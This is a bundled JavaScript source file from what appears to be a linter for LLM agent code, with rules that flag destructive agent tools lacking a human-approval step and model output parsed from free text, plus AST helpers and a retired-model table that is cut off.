/** The callee's first name: `requests` of `requests.get`, `client` of `client(...).run`. */
function calleeHead(written) {
	const end = written.search(/[.(\[]/);
	return end === -1 ? written : written.slice(0, end);
}
function importedCallee(call, imports, wanted) {
	const head = calleeHead(calleeText(call));
	if (!head || !imports.has(head)) return void 0;
	const qualified = qualifiedCallee(call, imports);
	if (wanted && !wanted(qualified) || isLocallyBound(call, head)) return void 0;
	return qualified;
}
// src/rules/ast/typescript.ts
/** Small, typed helpers over tree-sitter TypeScript/TSX trees (also used for JavaScript). */
/** Local name → `module#export` from ES imports (`import { generateText as g } from 'ai'` → g: `ai#generateText`). */
var importMaps = /* @__PURE__ */ new WeakMap();
/** Memoised per tree: most rules resolve names through the imports of the same file. */
function tsImportMap(tree) {
	let names = importMaps.get(tree);
	if (!names) importMaps.set(tree, names = buildTsImportMap(tree));
	return names;
}
function buildTsImportMap(tree) {
	const names = /* @__PURE__ */ new Map();
	for (const statement of tree.rootNode.descendantsOfType("import_statement")) {
		const module = statement.childForFieldName("source")?.text.slice(1, -1) ?? "";
		for (const specifier of statement.descendantsOfType("import_specifier")) {
			const name = specifier.childForFieldName("name")?.text;
			const alias = specifier.childForFieldName("alias")?.text;
			if (name) names.set(alias ?? name, `${module}#${name}`);
		}
		for (const clause of statement.descendantsOfType("import_clause")) {
			const defaultName = clause.namedChildren.find((child) => child.type === "identifier");
			if (defaultName) names.set(defaultName.text, `${module}#default`);
		}
		for (const namespace of statement.descendantsOfType("namespace_import")) {
			const name = namespace.namedChildren.find((child) => child.type === "identifier");
			if (name) names.set(name.text, `${module}#*`);
		}
	}
	return names;
}
function callExpressions(tree) {
	return ("rootNode" in tree ? tree.rootNode : tree).descendantsOfType(["call_expression", "new_expression"]);
}
/** Rules ask the same call for its callee many times: kept per call node (a tree hands out one object per node). */
var calleeTexts = /* @__PURE__ */ new WeakMap();
/** The callee as written: `generateText`, `openai.chat.completions.create`, `new OpenAI`. */
function tsCalleeText(call) {
	let text = calleeTexts.get(call);
	if (text === void 0) {
		text = compactCalleeText(call.childForFieldName("function") ?? call.childForFieldName("constructor"));
		calleeTexts.set(call, text);
	}
	return text;
}
function tsArguments(call) {
	return (call.childForFieldName("arguments")?.namedChildren ?? []).filter((child) => child.type !== "comment");
}
/** The value of property `name` in an object literal (`{ name: value }` or shorthand `{ name }`). */
function objectProperty(object, name) {
	if (!object || object.type !== "object") return void 0;
	for (const child of object.namedChildren) if (child.type === "pair") {
		const key = child.childForFieldName("key");
		if ((key?.type === "string" ? key.text.slice(1, -1) : key?.text) === name) return child.childForFieldName("value") ?? void 0;
	} else if (child.type === "shorthand_property_identifier" && child.text === name) return child;
}
/** True when an object literal spreads another object in (`{ ...defaults }`): a key may hide there. */
function hasSpread(object) {
	return !!object && object.namedChildren.some((child) => child.type === "spread_element");
}
function tsStringValue(node) {
	if (!node) return void 0;
	if (node.type === "string") return node.text.slice(1, -1);
	if (node.type === "template_string" && !node.namedChildren.some((child) => child.type === "template_substitution")) return node.text.slice(1, -1);
}
function tsNumberValue(node) {
	if (!node || node.type !== "number") return void 0;
	const value = Number(node.text.replace(/_/g, ""));
	return Number.isFinite(value) ? value : void 0;
}
// src/rules/architecture/support.ts
/**
* Shared helpers for the finops, architecture, governance and ux rules: framework recognition by
* import, one-hop value resolution and name splitting. Kept here (not in ../ast) so the rule folders
* stay self-contained.
*/
/** True when any import resolves into one of the module prefixes (`agents` matches `agents` and `agents.run`). */
function pyImportsFrom(imports, prefixes) {
	for (const qualified of imports.values()) if (prefixes.some((prefix) => qualified === prefix || qualified.startsWith(`${prefix}.`))) return true;
	return false;
}
/** Python packages that talk to a model: a file importing none of them is not agent code. */
var PY_LLM_MODULES = [
	"openai",
	"anthropic",
	"langchain",
	"langchain_core",
	"langchain_openai",
	"langchain_anthropic",
	"langchain_google_genai",
	"langchain_google_vertexai",
	"langchain_community",
	"langgraph",
	"google.genai",
	"google.generativeai",
	"google.adk",
	"vertexai",
	"crewai",
	"agents",
	"pydantic_ai",
	"llama_index",
	"smolagents",
	"litellm",
	"mistralai",
	"cohere",
	"groq"
];
/** True when a TS/JS import map has a binding from a module matching the predicate. */
function tsImportsFrom(imports, test) {
	for (const qualified of imports.values()) if (test(qualified.slice(0, qualified.indexOf("#")))) return true;
	return false;
}
function isTsLlmModule(module) {
	return module === "ai" || module.startsWith("@ai-sdk/") || module === "openai" || module.startsWith("openai/") || module === "@anthropic-ai/sdk" || module.startsWith("@openai/agents") || module.startsWith("@mastra/") || module.startsWith("@langchain/") || module === "langchain" || module.startsWith("langchain/") || module === "@google/genai";
}
/** `import { generateText } from 'ai'` makes `generateText(...)` → `ai#generateText`; `ns.x(...)` with `import * as ns` → `mod#x`. */
function tsQualifiedCallee(call, imports) {
	return resolvedCallee(call, imports, () => resolveTsCallee(tsCalleeText(call), imports));
}
function resolveTsCallee(written, imports) {
	const [head, ...rest] = written.split(".");
	const resolved = head !== void 0 ? imports.get(head) : void 0;
	if (!resolved) return written;
	if (rest.length === 0) return resolved;
	return resolved.endsWith("#*") || resolved.endsWith("#default") ? `${resolved.slice(0, resolved.indexOf("#"))}#${rest.join(".")}` : `${resolved}.${rest.join(".")}`;
}
/** The first argument of a TS call when it is an object literal (the options bag every SDK uses). */
function tsOptions(call, index = 0) {
	const argument = tsArguments(call)[index];
	return argument?.type === "object" ? argument : void 0;
}
/** `deleteUser`, `delete_user`, `delete-user` → [`delete`, `user`]. */
function nameWords(name) {
	return name.replace(/([a-z0-9])([A-Z])/g, "$1_$2").toLowerCase().split(/[^a-z0-9]+/).filter(Boolean);
}
/** Python: the right-hand sides of `name = ...` inside a scope (function body or module), nearest last. */
function pyAssignedValues(scope, name) {
	const values = [];
	for (const assignment of scope.descendantsOfType("assignment")) {
		const left = assignment.childForFieldName("left");
		const right = assignment.childForFieldName("right");
		if (left?.type === "identifier" && left.text === name && right) values.push(right);
	}
	return values;
}
/** Strips `await` and parentheses. */
function pyUnwrap(node) {
	let current = node;
	while (current && (current.type === "await" || current.type === "parenthesized_expression")) current = current.namedChildren[0] ?? void 0;
	return current;
}
/** A Python literal string value, allowing implicit concatenation and `(...)`; undefined for f-strings. */
function pyLiteralText(node) {
	const value = pyUnwrap(node);
	if (!value) return void 0;
	if (value.type === "string") {
		if (value.namedChildren.some((child) => child.type === "interpolation")) return void 0;
		return value.namedChildren.filter((child) => child.type === "string_content").map((child) => child.text).join("");
	}
	if (value.type === "concatenated_string") {
		const parts = value.namedChildren.map((child) => pyLiteralText(child));
		return parts.every((part) => part !== void 0) ? parts.join("") : void 0;
	}
}
/** A string literal, or a name bound once at module level to one (`SYSTEM_PROMPT = """..."""`). */
function pyResolveString(node, tree) {
	const value = pyUnwrap(node);
	if (!value) return void 0;
	if (value.type === "identifier") {
		const assigned = tree.rootNode.namedChildren.filter((statement) => statement.type === "expression_statement").map((statement) => statement.namedChildren[0]).filter((expression) => expression?.type === "assignment" && expression.childForFieldName("left")?.text === value.text).map((assignment) => assignment.childForFieldName("right") ?? void 0);
		return assigned.length === 1 ? pyLiteralText(assigned[0]) : void 0;
	}
	return pyLiteralText(value);
}
/** The last segment of a dotted Python name: `agents.exceptions.MaxTurnsExceeded` → `MaxTurnsExceeded`. */
function lastSegment$1(name) {
	return name.slice(name.lastIndexOf(".") + 1);
}
/** Python: is this keyword argument present and not literally `None`/`False`? */
function pyKeywordSet(call, name) {
	const value = keywordArgument(call, name);
	return !!value && value.type !== "none" && value.type !== "false";
}
/** Python function definitions by name, module-wide (methods included). */
function pyFunctionsByName(tree) {
	const functions = /* @__PURE__ */ new Map();
	for (const definition of tree.rootNode.descendantsOfType("function_definition")) {
		const name = definition.childForFieldName("name")?.text;
		if (name && !functions.has(name)) functions.set(name, definition);
	}
	return functions;
}
/** TS: the initialiser of `const name = ...` inside a scope, unwrapped from `await`. */
function tsDeclaredValue(scope, name) {
	for (const declarator of scope.descendantsOfType("variable_declarator")) {
		const target = declarator.childForFieldName("name");
		if (target?.type === "identifier" && target.text === name) return tsUnwrap(declarator.childForFieldName("value") ?? void 0);
	}
}
function tsUnwrap(node) {
	let current = node;
	while (current && (current.type === "await_expression" || current.type === "parenthesized_expression" || current.type === "as_expression" || current.type === "non_null_expression")) current = current.namedChildren[0] ?? void 0;
	return current;
}
// src/rules/ast/span.ts
/** The text a finding on `node` covers: the node's whole range, as `report` takes it. */
function spanOf(node) {
	return {
		start: node.startIndex,
		end: node.endIndex
	};
}
// src/rules/architecture/destructive-tool-without-approval.ts
/** Leading verbs that make an action irreversible or outward-facing. */
var DESTRUCTIVE_VERBS = /* @__PURE__ */ new Set([
	"delete",
	"drop",
	"remove",
	"send",
	"email",
	"pay",
	"payout",
	"refund",
	"transfer",
	"deploy",
	"charge",
	"cancel",
	"purchase",
	"destroy",
	"purge",
	"wipe",
	"truncate",
	"wire"
]);
/** The verb that makes a tool name destructive, or undefined. Handoff tools (`transfer_to_billing`) are routing, not money. */
function destructiveVerb(name, extraVerbs = NO_VERBS) {
	const words = nameWords(name);
	if (words[0] === "transfer" && words[1] === "to") return void 0;
	if (words.join("_").includes("write_file")) return "write_file";
	const first = words[0];
	return first && (DESTRUCTIVE_VERBS.has(first) || extraVerbs.has(first)) ? first : void 0;
}
var NO_VERBS = /* @__PURE__ */ new Set();
var DEFAULT_PREFILTER = /delete|drop|remove|send|email|pay|refund|transfer|deploy|charge|cancel|purchase|destroy|purge|wipe|truncate|wire|write_?file/i;
function resolvedDecorator(decorator, imports) {
	const name = decoratorName(decorator);
	const [head, ...rest] = name.split(".");
	const resolved = head !== void 0 ? imports.get(head) : void 0;
	return resolved ? [resolved, ...rest].join(".") : name;
}
function bodyCalls(fn, pattern) {
	return calls(fn).some((call) => pattern.test(call.childForFieldName("function")?.text ?? ""));
}
var LANGGRAPH_WIRING = /create_react_agent|create_agent|StateGraph|ToolNode|AgentExecutor|bind_tools|create_tool_calling_agent/;
var LANGGRAPH_APPROVAL = /interrupt_before|interrupt_after|HumanInTheLoopMiddleware|interrupt_on|HumanApprovalCallbackHandler/;
var destructiveToolWithoutApprovalCheck = defineRule({
	id: "architecture/destructive-tool-without-approval",
	title: "Destructive tool with no human approval step",
	description: "A tool whose name says it deletes, sends, pays, refunds, transfers, deploys, charges, cancels, purchases or writes files is given to an agent with none of the framework's human-approval mechanisms: OpenAI Agents needs_approval (Python and JS), ADK FunctionTool(require_confirmation=...) or tool_context.request_confirmation(), LangGraph interrupt() in the tool or interrupt_before on compile (or LangChain HumanInTheLoopMiddleware), CrewAI human_input=True, AI SDK needsApproval or a tool without execute (client-side confirmation), Mastra requireApproval. Every framework runs tools the model picks immediately by default, so a prompt-injected or confused model performs the action unreviewed. LangChain and CrewAI tools are only judged in the file that wires them into an agent, where an approval setting would be visible.",
	persona: "architecture",
	category: "architecture",
	severity: "warning",
	fixability: "structural",
	tags: [
		"LLM06:2025",
		"ASI02",
		"ASI09",
		"CWE-862"
	],
	remediation: "Gate the tool on a human decision with the framework mechanism (needs_approval=True, require_confirmation=True, interrupt(), needsApproval, requireApproval) and show the user the exact arguments; also scope its credentials to the minimum.",
	docs: "https://openai.github.io/openai-agents-python/human_in_the_loop/",
	frameworks: [
		"openai-agents",
		"google-adk",
		"langgraph",
		"langchain",
		"crewai",
		"vercel-ai-sdk",
		"mastra"
	],
	precision: "medium",
	options: [{
		name: "destructive_verbs",
		description: "More leading verbs that make a tool destructive in this codebase (e.g. publish, approve, post), added to the built-in list.",
		schema: (z) => z.array(z.string().regex(/^[A-Za-z]+$/, "a verb is one word of letters")),
		default: []
	}, {
		name: "ignore_tools",
		description: "Tool names (as the model sees them) that are reviewed another way, e.g. a send tool that only writes to a sandbox.",
		schema: (z) => z.array(z.string().min(1)),
		default: []
	}]
}, {
	appliesTo: (file) => file.language !== "other",
	async run(context) {
		const { file } = context;
		const extraVerbs = new Set(context.options["destructive_verbs"].map((verb) => verb.toLowerCase()));
		const ignored = new Set(context.options["ignore_tools"]);
		if (!/tool|Tool/.test(file.text)) return;
		if (!DEFAULT_PREFILTER.test(file.text) && ![...extraVerbs].some((verb) => file.text.toLowerCase().includes(verb))) return;
		const tree = await context.tree();
		if (!tree) return;
		const verbOf = (name) => ignored.has(name) ? void 0 : destructiveVerb(name, extraVerbs);
		const report = (node, framework, name, verb, mechanism) => context.report({
			...spanOf(node),
			message: `${framework} tool '${name}' performs a '${verb}' action with no human approval; the model's tool calls run immediately by default, so add ${mechanism}.`,
			fingerprintContent: `${framework}|${name}`
		});
		if (file.language === "python") pythonTools(tree, file.text, report, verbOf);
		else tsTools(tree, report, verbOf);
	}
});
function pythonTools(tree, text, report, verbOf) {
	const imports = pythonImportMap(tree);
	const functions = pyFunctionsByName(tree);
	const langgraphWired = LANGGRAPH_WIRING.test(text) && !LANGGRAPH_APPROVAL.test(text);
	const crewWired = /\b(Task|Crew)\(/.test(text) && !/human_input\s*=\s*True/.test(text);
	for (const fn of functions.values()) {
		const nameNode = fn.childForFieldName("name");
		if (!nameNode) continue;
		for (const decorator of decoratorsOf(fn)) {
			const qualified = resolvedDecorator(decorator, imports);
			const args = decorator.type === "call" ? decorator : void 0;
			if (/^agents(\.tool)?\.function_tool$/.test(qualified)) {
				const name = pyLiteralText(args && keywordArgument(args, "name_override")) ?? nameNode.text;
				const verb = verbOf(name);
				if (verb && !(args && pyKeywordSet(args, "needs_approval"))) report(nameNode, "OpenAI Agents", name, verb, "@function_tool(needs_approval=True)");
			} else if (/^(langchain_core\.tools|langchain\.tools|langchain\.agents|langchain_core\.tools\.convert)\.tool$/.test(qualified)) {
				if (!langgraphWired) continue;
				const name = pyLiteralText(args && positionalArguments(args)[0]) ?? nameNode.text;
				const verb = verbOf(name);
				if (verb && !bodyCalls(fn, /(^|\.)interrupt$/)) report(nameNode, "LangChain", name, verb, "interrupt() in the tool or interrupt_before=[\"tools\"] on compile");
			} else if (/^crewai\.tools(\.base_tool)?\.tool$/.test(qualified)) {
				if (!crewWired) continue;
				const name = pyLiteralText(args && positionalArguments(args)[0]) ?? nameNode.text;
				const verb = verbOf(name);
				if (verb) report(nameNode, "CrewAI", name, verb, "human_input=True on the Task that uses it");
			}
		}
	}
	for (const call of calls(tree)) {
		if (!/^google\.adk(\.agents(\.llm_agent)?)?\.(Agent|LlmAgent)$/.test(qualifiedCallee(call, imports))) continue;
		const tools = keywordArgument(call, "tools");
		if (tools?.type !== "list") continue;
		for (const element of tools.namedChildren) {
			let target = element;
			if (element.type === "call") {
				if (!/(^|\.)FunctionTool$/.test(qualifiedCallee(element, imports))) continue;
				if (pyKeywordSet(element, "require_confirmation")) continue;
				target = keywordArgument(element, "func") ?? positionalArguments(element)[0];
			}
			if (target?.type !== "identifier") continue;
			const fn = functions.get(target.text);
			const verb = verbOf(target.text);
			if (!fn || !verb) continue;
			if (bodyCalls(fn, /\.request_confirmation$/) || fn.text.includes("tool_confirmation")) continue;
			report(element, "ADK", target.text, verb, "FunctionTool(func, require_confirmation=True) or tool_context.request_confirmation()");
		}
	}
}
/** The name a TS tool is known by: its key in `tools: { deleteFile: tool(...) }` or its `const` name. */
function tsBindingName(call) {
	const parent = call.parent;
	if (parent?.type === "pair") return parent.childForFieldName("key")?.text.replace(/^['"]|['"]$/g, "");
	if (parent?.type === "variable_declarator") return parent.childForFieldName("name")?.text;
}
function tsTools(tree, report, verbOf) {
	const imports = tsImportMap(tree);
	for (const call of callExpressions(tree)) {
		const qualified = tsQualifiedCallee(call, imports);
		const options = tsOptions(call);
		if (!options) continue;
		const approval = (key) => {
			const value = objectProperty(options, key);
			return !!value && value.type !== "false";
		};
		if (qualified === "ai#tool") {
			if (!objectProperty(options, "execute") || approval("needsApproval")) continue;
			const name = tsBindingName(call);
			const verb = name && verbOf(name);
			if (name && verb) report(call, "AI SDK", name, verb, "needsApproval: true (or drop execute and confirm on the client)");
		} else if (/^@openai\/agents(-core)?#tool$/.test(qualified)) {
			if (approval("needsApproval")) continue;
			const name = tsStringValue(objectProperty(options, "name")) ?? tsBindingName(call);
			const verb = name && verbOf(name);
			if (name && verb) report(call, "OpenAI Agents", name, verb, "needsApproval: true");
		} else if (/^@mastra\/core(\/tools)?#createTool$/.test(qualified)) {
			if (approval("requireApproval")) continue;
			const name = tsStringValue(objectProperty(options, "id")) ?? tsBindingName(call);
			const verb = name && verbOf(name);
			if (name && verb) report(call, "Mastra", name, verb, "requireApproval: true");
		}
	}
}
// src/rules/architecture/unstructured-output-parsing.ts
/** Python parsers that turn free text into data, and which argument holds the text. */
var PY_PARSERS = /* @__PURE__ */ new Map([
	["json.loads", 0],
	["eval", 0],
	["ast.literal_eval", 0],
	["re.search", 1],
	["re.match", 1],
	["re.fullmatch", 1],
	["re.findall", 1],
	["re.finditer", 1]
]);
/** Drop text clean-ups around the value: `x.strip()`, `x.replace("```json", "")`, `str(x)`. */
function pyPeel(node) {
	let current = pyUnwrap(node);
	for (;;) {
		if (current?.type !== "call") return current;
		const callee = current.childForFieldName("function");
		if (callee?.type === "attribute" && /^(strip|lstrip|rstrip|replace|removeprefix|removesuffix|lower)$/.test(callee.childForFieldName("attribute")?.text ?? "")) current = pyUnwrap(callee.childForFieldName("object") ?? void 0);
		else if (callee?.text === "str") current = pyUnwrap(positionalArguments(current)[0]);
		else return current;
	}
}
function pyClassify(expression) {
	let match;
	if (match = /^(\w+)(?:\.\w+)*\.choices\[0\]\.message\.content$/.exec(expression)) return {
		source: "OpenAI chat completion",
		base: match[1],
		certain: true
	};
	if (match = /^(\w+)\.output_text$/.exec(expression)) return {
		source: "OpenAI response",
		base: match[1],
		certain: true
	};
	if (match = /^(\w+)\.final_output$/.exec(expression)) return {
		source: "OpenAI Agents result",
		base: match[1],
		certain: true
	};
	if (match = /^(\w+)\.content\[0\]\.text$/.exec(expression)) return {
		source: "Anthropic message",
		base: match[1],
		certain: false
	};
	if (match = /^(\w+)\.text$/.exec(expression)) return {
		source: "Gemini response",
		base: match[1],
		certain: false
	};
	if (match = /^(\w+)\.content$/.exec(expression)) return {
		source: "LangChain model reply",
		base: match[1],
		certain: false
	};
}
/** Does the call that produced `base` match the source, and did it already ask for structured output? */
function pyOrigin(scope, base, source, fileText) {
	if (source === "OpenAI Agents result") return /output_type\s*=/.test(fileText) ? "structured" : "model";
	const values = pyAssignedValues(scope, base).map((value) => pyUnwrap(value)).filter((value) => value?.type === "call");
	const value = values[values.length - 1];
	if (!value) return "unknown";
	const callee = calleeText(value);
	const has = (...names) => names.some((name) => keywordArgument(value, name));
	switch (source) {
		case "OpenAI chat completion":
			if (!/completions\.(create|parse)$/.test(callee)) return "other";
			return /\.parse$/.test(callee) || has("response_format") ? "structured" : "model";
		case "OpenAI response":
			if (!/responses\.(create|parse)$/.test(callee)) return "other";
			return /\.parse$/.test(callee) || has("text_format", "text") ? "structured" : "model";
		case "Anthropic message": return /messages\.create$/.test(callee) ? "model" : "other";
		case "Gemini response":
			if (!/generate_content$/.test(callee)) return "other";
			return /response_schema|response_mime_type|response_json_schema/.test(fileText) ? "structured" : "model";
		case "LangChain model reply":
			if (!/(^|\.)a?invoke$/.test(callee)) return "other";
			return /with_structured_output|response_format|json_mode|JsonOutputParser|PydanticOutputParser/.test(fileText) ? "structured" : "model";
		default: return "other";
	}
}
function pyModelOutput(argument, fileText, tree, depth = 0) {
	const value = pyPeel(argument);
	if (!value) return void 0;
	const scope = enclosingFunction(value) ?? tree.rootNode;
	if (value.type === "identifier" && depth === 0) {
		const assigned = pyAssignedValues(scope, value.text);
		const last = assigned[assigned.length - 1];
		return last ? pyModelOutput(last, fileText, tree, depth + 1) : void 0;
	}
	const classified = pyClassify(value.text.replace(/\s+/g, ""));
	if (!classified?.base) return void 0;
	const origin = pyOrigin(scope, classified.base, classified.source, fileText);
	if (origin === "model" || origin === "unknown" && classified.certain) return classified.source;
}
var STRUCTURED_REMEDY = {
	"OpenAI chat completion": "use response_format with a JSON schema or client.chat.completions.parse(response_format=Model)",
	"OpenAI response": "use client.responses.parse(text_format=Model)",
	"OpenAI Agents result": "give the Agent an output_type",
	"Anthropic message": "use a tool with an input_schema (or structured outputs) and read the tool_use block",
	"Gemini response": "set response_mime_type=\"application/json\" and response_schema in GenerateContentConfig (ADK: output_schema=)",
	"LangChain model reply": "use llm.with_structured_output(Model)",
	"AI SDK generateText result": "use generateObject or experimental_output: Output.object({ schema })"
};
/** TS: `completion.choices[0].message.content` (with `?.` and `!` removed). */
function tsModelOutput(argument, tree, imports) {
	const value = tsUnwrap(argument);
	if (!value) return void 0;
	const scope = scopeOf(value) ?? tree.rootNode;
	const text = value.text.replace(/\s+|\?|!/g, "");
	const chat = /^(\w+)\.choices\[0\]\.message\.content$/.exec(text);
	if (chat) {
		const origin = declaredCall(scope, chat[1]);
		if (origin && (objectProperty(tsOptions(origin), "response_format") || /\.parse$/.test(tsCalleeText(origin)))) return void 0;
		return "OpenAI chat completion";
	}
	const aiText = /^(\w+)\.text$/.exec(text);
	if (aiText) {
		const origin = declaredCall(scope, aiText[1]);
		return origin && isPlainGenerateText(origin, imports) ? "AI SDK generateText result" : void 0;
	}
	if (value.type === "identifier") {
		for (const declarator of scope.descendantsOfType("variable_declarator")) {
			const pattern = declarator.childForFieldName("name");
			if (pattern?.type !== "object_pattern") continue;
			const binds = pattern.namedChildren.some((child) => child.type === "shorthand_property_identifier_pattern" && child.text === value.text && value.text === "text" || child.type === "pair_pattern" && child.childForFieldName("key")?.text === "text" && child.childForFieldName("value")?.text === value.text);
			const init = tsUnwrap(declarator.childForFieldName("value") ?? void 0);
			if (binds && init?.type === "call_expression" && isPlainGenerateText(init, imports)) return "AI SDK generateText result";
		}
		const init = declaredValue(scope, value.text);
		if (init && init !== value) return tsModelOutput(init, tree, imports);
	}
}
function scopeOf(node) {
	for (let current = node.parent; current; current = current.parent) if (/^(function_declaration|function_expression|arrow_function|method_definition|generator_function_declaration)$/.test(current.type)) return current;
}
function declaredValue(scope, name) {
	for (const declarator of scope.descendantsOfType("variable_declarator")) {
		const target = declarator.childForFieldName("name");
		if (target?.type === "identifier" && target.text === name) return tsUnwrap(declarator.childForFieldName("value") ?? void 0);
	}
}
function declaredCall(scope, name) {
	const value = declaredValue(scope, name);
	return value?.type === "call_expression" ? value : void 0;
}
function isPlainGenerateText(call, imports) {
	if (tsQualifiedCallee(call, imports) !== "ai#generateText") return false;
	const options = tsOptions(call);
	return !objectProperty(options, "experimental_output") && !objectProperty(options, "output");
}
// src/rules/architecture/index.ts
var ARCHITECTURE_CHECKS = [defineRule({
	id: "architecture/unstructured-output-parsing",
	title: "Model output parsed from free text instead of structured output",
	description: "Model output is turned into data with json.loads, eval, ast.literal_eval, a regex, or JSON.parse on the raw text (OpenAI choices[0].message.content / output_text, OpenAI Agents final_output, Anthropic content[0].text, Gemini response.text, LangChain .content, AI SDK generateText text) although the provider can return schema-checked output. Free-text parsing breaks on code fences, prose around the JSON and truncation, and eval of model text executes whatever the model wrote. Silent when the producing call already asks for structured output (response_format, parse(), output_type, response_schema, with_structured_output, Output.object).",
	persona: "architecture",
	category: "architecture",
	severity: "warning",
	fixability: "structural",
	tags: ["LLM05:2025", "CWE-20"],
	remediation: "Ask the provider for structured output and read the parsed object: response_format / parse(), output_type=, output_schema=, response_schema, with_structured_output, generateObject or Output.object. Validate with the same schema.",
	docs: "https://platform.openai.com/docs/guides/structured-outputs",
	frameworks: [
		"openai-sdk",
		"openai-agents",
		"anthropic-sdk",
		"google-genai",
		"langchain",
		"vercel-ai-sdk"
	],
	precision: "high"
}, {
	textHas: [/json\.loads|literal_eval|\beval\(|\bre\.|JSON\.parse/, /choices|output_text|final_output|content|text/],
	async runOnTree(context, tree) {
		const { file } = context;
		const report = (call, parser, source) => context.report({
			...spanOf(call),
			message: `${parser}(...) parses the raw ${source} text; free-text parsing breaks on code fences, extra prose and truncation${parser.endsWith("eval") ? " and eval runs whatever the model wrote" : ""}, so ${STRUCTURED_REMEDY[source]}.`,
			fingerprintContent: `${parser}|${source}`
		});
		if (file.language === "python") {
			const imports = pythonImportMap(tree);
			for (const call of calls(tree)) {
				const parser = qualifiedCallee(call, imports);
				const index = PY_PARSERS.get(parser);
				if (index === void 0) continue;
				const source = pyModelOutput(positionalArguments(call)[index], file.text, tree);
				if (source) report(call, parser, source);
			}
			return;
		}
		const imports = tsImportMap(tree);
		for (const call of callExpressions(tree)) {
			if (call.type !== "call_expression" || tsCalleeText(call) !== "JSON.parse") continue;
			const source = tsModelOutput(tsArguments(call)[0], tree, imports);
			if (source) report(call, "JSON.parse", source);
		}
	}
}), destructiveToolWithoutApprovalCheck];
// src/heal/text.ts
/** Line-level facts about a text that edits need to match its style. */
function newlineOf(text) {
	return text.includes("\r\n") ? "\r\n" : "\n";
}
/** The indentation (spaces or tabs) of the line `offset` is on. */
function lineIndent(text, offset) {
	const lineStart = text.lastIndexOf("\n", offset - 1) + 1;
	return /^[ \t]*/.exec(text.slice(lineStart))[0];
}
/** Offset of the end of the line `offset` is on (before `\r\n`/`\n`), or the text's end. */
function lineEnd(text, offset) {
	const newline = text.indexOf("\n", offset);
	if (newline === -1) return text.length;
	return text[newline - 1] === "\r" ? newline - 1 : newline;
}
// src/heal/ts-edits.ts
/**
* Edits that add `key: value` to a TS/JS object literal in its own style: after the last property on
* the same line, or as a new last line (same indentation, trailing comma kept) when the object lists
* one property per line; a comment after the last property stays on that property's line. `{}`
* becomes `{ key: value }`; an object holding only a comment gets undefined (no safe place to guess).
*/
function addObjectProperty(object, text, key, value) {
	const last = object.namedChildren.filter((child) => child.type !== "comment").at(-1);
	const property = `${key}: ${value}`;
	if (!last) {
		if (object.namedChildren.length > 0) return void 0;
		return [{
			start: object.startIndex + 1,
			end: object.endIndex - 1,
			text: ` ${property} `
		}];
	}
	const closing = object.endIndex - 1;
	const between = text.slice(last.endIndex, closing);
	const trailingComma = /^\s*,/.test(between);
	const newline = newlineOf(text);
	if (between.includes("\n")) {
		const indent = lineIndent(text, last.startIndex);
		if (trailingComma) {
			const commaAt = last.endIndex + between.indexOf(",") + 1;
			const lineEnd = text.slice(commaAt, closing).search(/\r?\n/);
			const at = lineEnd === -1 ? commaAt : commaAt + lineEnd;
			return [{
				start: at,
				end: at,
				text: `${newline}${indent}${property},`
			}];
		}
		const lineEnd = last.endIndex + between.search(/\r?\n/);
		return [{
			start: last.endIndex,
			end: last.endIndex,
			text: ","
		}, {
			start: lineEnd,
			end: lineEnd,
			text: `${newline}${indent}${property}`
		}];
	}
	if (trailingComma) {
		const commaAt = last.endIndex + between.indexOf(",") + 1;
		return [{
			start: commaAt,
			end: commaAt,
			text: ` ${property},`
		}];
	}
	return [{
		start: last.endIndex,
		end: last.endIndex,
		text: `, ${property}`
	}];
}
// src/rules/finops/output-cap-exemptions.ts
/**
* Models and endpoints where a missing output cap is the right setting, not a cost leak. Each entry
* says why and where that is documented; finops/no-output-token-cap stays silent for them.
*/
/**
* Reasoning ("thinking") models count their hidden reasoning tokens against the output cap, so a cap
* sized for the visible answer (the heal default is 1024) ends the call with an empty answer that is
* still billed. Matched on the bare model id after any `provider/` or `provider:` prefix.
* - OpenAI o-series, gpt-5 family (not the `-chat` aliases), gpt-oss: max_output_tokens covers reasoning
*   tokens, and OpenAI advises reserving about 25,000 tokens for them
*   (https://platform.openai.com/docs/guides/reasoning#allocating-space-for-reasoning).
*   gpt-5 chat aliases take no reasoning settings: openai-agents-python src/agents/models/default_models.py.
* - DeepSeek R1 / deepseek-reasoner, QwQ: the reasoning text is output (https://api-docs.deepseek.com/guides/reasoning_model).
* - Gemini 2.5 (not 2.5 Flash-Lite, which does not think by default) and Gemini 3 and later: thinking tokens are
*   billed against max_output_tokens; a small cap returns text='' with finish_reason MAX_TOKENS
*   (https://github.com/googleapis/python-genai/issues/811, https://github.com/googleapis/python-genai/issues/782).
*/
var REASONING_MODEL = new RegExp([
	"o[1-9](-[a-z0-9-]+)?$",
	"gpt-5(?![.\\d]*-chat)",
	"gpt-oss",
	"deepseek-r1",
	"deepseek-reasoner",
	"qwq",
	"gemini-2\\.5-(?!flash-lite)",
	"gemini-[3-9](\\.\\d+)?-"
].map((pattern) => `(^|[/:])${pattern}`).join("|"), "i");
/**
* Image, speech and audio models: their output size is set by resolution or duration and billed per
* image or per second (https://ai.google.dev/gemini-api/docs/pricing), not by the length of a text
* answer, so a text-sized cap (the heal default is 1024) is not the control that bounds their cost.
*/
var MEDIA_MODEL = /image|imagen|tts|native-audio|audio-preview|veo/i;
/** Servers on this machine or the local network (Ollama, LM Studio, vLLM in compose): no per-token bill. */
var LOCAL_ENDPOINT = /^https?:\/\/(localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[::1\]|host\.docker\.internal|ollama)([:/]|$)/i;
function isReasoningModel(model) {
	return REASONING_MODEL.test(model.trim());
}
function isMediaOutputModel(model) {
	return MEDIA_MODEL.test(model);
}
function isLocalEndpoint(url) {
	return LOCAL_ENDPOINT.test(url.trim());
}
// src/rules/reliability/retired-models.ts
/** Successor ids the retired-model fix writes (checked against the providers' model pages, late 2026). */
var CLAUDE_SONNET = "claude-sonnet-4-6";
var CLAUDE_HAIKU = "claude-haiku-4-5-20251001";
var CLAUDE_OPUS = "claude-opus-4-8";
var GEMINI_FLASH = "gemini-3.5-flash";
var GEMINI_FLASH_LITE = "gemini-3.1-flash-lite";
/** OpenAI's recommended replacements for the October 2026 shutdowns (deprecations page, 2026-10-15). */
var OPENAI_SOL = "gpt-5.6-sol";
var OPENAI_TERRA = "gpt-5.6-terra";
var RETIRED_MODELS = [
	{
		pattern: /^(text-(davinci|curie|babbage|ada)-00\d|davinci|curie|babbage|ada)$/,
		provider: "openai",
		retired: "2024-01-04",
		successor: OPENAI_TERRA
	},
	{
